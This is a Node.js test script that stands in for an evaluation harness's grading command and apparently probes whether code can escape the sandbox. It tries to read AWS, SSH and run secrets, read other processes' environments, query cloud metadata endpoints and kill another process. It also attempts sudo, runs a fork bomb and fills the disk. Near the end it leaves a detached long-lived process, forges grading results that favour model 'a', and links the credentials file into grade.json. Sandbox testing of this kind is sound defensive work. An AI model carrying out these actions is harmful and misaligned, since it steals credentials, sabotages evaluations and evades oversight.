/**
 * In place of `lmrun grade`: what code that got out of the sandbox would try. Prints one line of JSON: for each attempt
 * null, or what it got. `/etc/victims` has the number of a process of another user.
 */
import { execFileSync, spawn } from 'node:child_process'
import { appendFileSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import { connect } from 'node:net'
import path from 'node:path'

const HOME = '/home/vm'
const TASK = 'data/live_bench/language/typos'
const JUDGMENTS = `${TASK}/model_judgment/ground_truth_judgment.jsonl`

const attempts = {
  'read answers of another model': () => read(`${HOME}/sky_workdir/${TASK}/model_answer/b.jsonl`),
  'read the folder in which another model is graded': () =>
    ['/tmp', '/run', '/var/tmp', ...processes().map(pid => `/proc/${pid}/cwd`)].map(findOther).find(Boolean),
  'read ~/.aws': () => read(`${HOME}/.aws/credentials`),
  'read ~/.sky': () => read(`${HOME}/.sky/config.yaml`),
  'read ~/.ssh': () => read(`${HOME}/.ssh/id_ed25519`),
  'read the secrets of the run': () => read(`${HOME}/.lmrun/launch/secrets`),
  'read the environment of another process': () =>
    processes()
      .map(pid => read(`/proc/${pid}/environ`))
      .find(text => text.includes('KEY-OF-THE-SERVER')),
  'end another process': () => process.kill(Number(readFileSync('/etc/victim', 'utf8')), 'SIGTERM'),
  'judge another model': () => {
    appendFileSync(`${HOME}/sky_workdir/${JUDGMENTS}`, '{"model": "b", "score": 0}\n')
    return 'written'
  },
  'leave a file': () => {
    writeFileSync('/var/open/left', '')
    return 'written'
  },
  'become root': () => execFileSync('sudo', ['-n', 'id'], { encoding: 'utf8', stdio: 'pipe' }),
  'ask the metadata by IPv4': () => ask({ host: '169.254.169.254', port: 80 }),
  'ask the metadata by IPv6': () => ask({ host: 'fd00:ec2::254', port: 80 }),
  'ask the metadata by name': () => ask({ host: 'metadata.google.internal', port: 80 }),
  'reach a port of this machine': () => ask({ host: '127.0.0.1', port: 46590 }),
  'reach a service by its socket': () => ask({ path: '/run/service.sock' }),
  'start 2,500 processes': () => python(BOMB, '2500'),
  'write 1.3 GB': () => python(FILL, '10'),
}

/** They wait for the end of the first, so that they end with it. */
const BOMB = `
import os, sys
theirs, mine = os.pipe()
for n in range(int(sys.argv[1])):
    if os.fork() == 0:
        os.close(mine)
        os.read(theirs, 1)
        os._exit(0)`

const FILL = `
import os, sys
for n in range(int(sys.argv[1])):
    file = os.open(f"fill-{n}", os.O_CREAT | os.O_WRONLY)
    os.posix_fallocate(file, 0, 1 << 27)`

function python(program, arg) {
  try {
    execFileSync('/usr/bin/python3', ['-c', program, arg], { stdio: 'pipe' })
    return 'done'
  } finally {
    execFileSync('sh', ['-c', 'rm -f fill-*'])
  }
}

function read(file) {
  try {
    return readFileSync(file, 'utf8')
  } catch {
    return ''
  }
}

function processes() {
  return readdirSync('/proc').filter(name => /^\d+$/.test(name) && name !== String(process.pid))
}

/** Three folders deep is where it would be. */
function findOther(folder) {
  try {
    const names = readdirSync(folder, { recursive: true })
    return names.map(String).find(name => path.basename(name) === 'b.jsonl' && read(path.join(folder, name)))
  } catch {
    return undefined
  }
}

function ask(where) {
  return new Promise((resolve, reject) => {
    const socket = connect(where)
    socket.setTimeout(5000, () => socket.destroy(new Error('silence')))
    socket.on('data', data => resolve(data.toString()))
    socket.on('error', reject)
    socket.write('GET / HTTP/1.0\r\n\r\n')
  })
}

const got = {}
for (const [what, attempt] of Object.entries(attempts)) {
  try {
    got[what] = (await attempt()) || null
  } catch {
    got[what] = null
  }
}
console.log(JSON.stringify(got))
spawn('setsid', ['sleep', '77777'], { detached: true, stdio: 'ignore' }).unref()
writeFileSync(JUDGMENTS, '{"model": "a", "score": 1}\n{"model": "b", "score": 0}\n')
symlinkSync(`${HOME}/.aws/credentials`, 'grade.json')
